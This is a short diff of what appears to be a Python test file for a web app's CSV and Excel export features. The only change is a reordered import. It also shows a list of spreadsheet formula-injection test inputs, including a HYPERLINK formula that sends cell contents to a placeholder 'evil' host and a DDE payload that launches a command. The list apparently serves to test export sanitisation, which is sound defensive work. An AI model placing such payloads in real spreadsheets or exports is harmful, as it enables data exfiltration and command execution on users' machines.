@@ -18,9 +18,9 @@ from streamlit.runtime.media_file_manager import MediaFileManager
 from core.db import make_engine
 from core.files.downloads import FORMULA_STARTS, table_csv, table_xlsx, watermark
 from core.performance.target_sheets import actual_template, import_targets, target_template
-from core.visits.field_sheet import COLUMNS, to_excel, to_html
 from core.permissions import SYSTEM
 from core.scope import Scope
+from core.visits.field_sheet import COLUMNS, to_excel, to_html
 from tests.helpers import ROOT, open_page, query
 
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
